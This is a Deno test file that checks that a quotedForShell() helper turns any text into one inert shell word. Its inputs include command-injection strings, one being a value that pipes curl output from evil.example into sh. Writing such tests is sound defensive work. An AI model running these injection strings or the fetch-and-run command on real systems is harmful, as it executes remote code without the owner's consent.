import assert from "node:assert/strict";
import fc from "npm:fast-check@4.10.2";
import { quotedForShell } from "../src/shell.ts";

Deno.test("quotedForShell() does not change plain names", () => {
  for (const name of ["oncall", "a_B-1", "/etc/ssh-session-notifier/token"]) assert.equal(quotedForShell(name), name);
});

Deno.test("quotedForShell() makes any text one word, and a shell runs none of it", async () => {
  const texts = [
    "old; curl -s evil.example|sh #",
    "",
    "'",
    "'; touch /tmp/x; '",
    "$(id)`id`",
    "~",
    "a\\'b",
    "a\nb",
    ...fc.sample(fc.string({ unit: "binary" }).filter((text) => !text.includes("\0")), 200),
  ].map((text) => text.toWellFormed());
  const script = `for word in ${texts.map(quotedForShell).join(" ")}; do printf '%s\\0' "$word"; done`;
  const { stdout } = await new Deno.Command("sh", { args: ["-c", script] }).output();
  assert.deepEqual(new TextDecoder("utf-8", { ignoreBOM: true }).decode(stdout).split("\0"), [...texts, ""]);
});
